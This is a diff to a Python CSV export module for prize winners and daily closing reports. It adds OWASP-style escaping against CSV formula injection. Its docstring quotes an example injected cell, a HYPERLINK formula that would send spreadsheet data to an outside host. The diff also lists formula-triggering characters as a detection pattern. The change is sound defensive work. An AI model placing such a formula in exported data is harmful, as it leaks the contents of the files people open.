@@ -6,6 +6,12 @@ holds all its wins in memory. UTF-8 with a byte order mark: without it Excel, wh
 what most people open a CSV with, reads the file as the local code page and garbles
 prize and player names such as "Sconto del 5% – caffè"; every CSV reader that knows
 UTF-8 skips the mark (Python's "utf-8-sig", pandas, LibreOffice).
+
+Formula-safe: player ids come from clients, and a cell such as
+`=HYPERLINK("https://x/?"&A1,"Claim")` would be a live formula in the spreadsheet the
+notary opens. Every text cell that begins with =, +, -, @, a tab or a carriage return is
+written with a leading ' (OWASP's rule for CSV injection), which spreadsheets show as
+text and hide.
 """
 
 import csv
@@ -20,6 +26,8 @@ from .reports import ClosingReport, DayLine
 from .winners import WINNER_COLUMNS, related_of
 
 BYTE_ORDER_MARK = "\ufeff"
+# What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 # Rows fetched per round trip (and per server-side cursor fetch on PostgreSQL).
 CHUNK_SIZE = 2000
 
@@ -32,6 +40,18 @@ REPORT_DAY_HEADER = (
     "unassigned",
     "commitments",
 )
+
+
+def safe_cell(value: object) -> object:
+    """A cell no spreadsheet reads as a formula: text beginning with =, +, -, @, tab or CR
+    gets a leading '. Numbers stay numbers."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def safe_row(row: Iterable[object]) -> list[object]:
+    return [safe_cell(value) for value in row]
 
 
 class _Echo:
@@ -52,7 +72,7 @@ def _winner_section(writer: _LineWriter, wins: QuerySet[Win]) -> Iterator[str]:
     yield writer.writerow([column.key for column in WINNER_COLUMNS])
     rows = wins.select_related(*related_of(WINNER_COLUMNS))
     for win in rows.iterator(chunk_size=CHUNK_SIZE):
-        yield writer.writerow([column.text(win) for column in WINNER_COLUMNS])
+        yield writer.writerow(safe_row(column.text(win) for column in WINNER_COLUMNS))
 
 
 def winner_lines(wins: QuerySet[Win]) -> Iterator[str]:
@@ -62,16 +82,18 @@ def winner_lines(wins: QuerySet[Win]) -> Iterator[str]:
     yield from _winner_section(writer, wins)
 
 
-def _day_row(label: str, line: DayLine) -> list[str | int]:
-    return [
-        label,
-        line.plays,
-        line.planned,
-        line.awarded,
-        line.disqualified,
-        line.unassigned,
-        " ".join(line.commitments),
-    ]
+def _day_row(label: str, line: DayLine) -> list[object]:
+    return safe_row(
+        [
+            label,
+            line.plays,
+            line.planned,
+            line.awarded,
+            line.disqualified,
+            line.unassigned,
+            " ".join(line.commitments),
+        ]
+    )
 
 
 def closing_report_lines(report: ClosingReport) -> Iterator[str]:
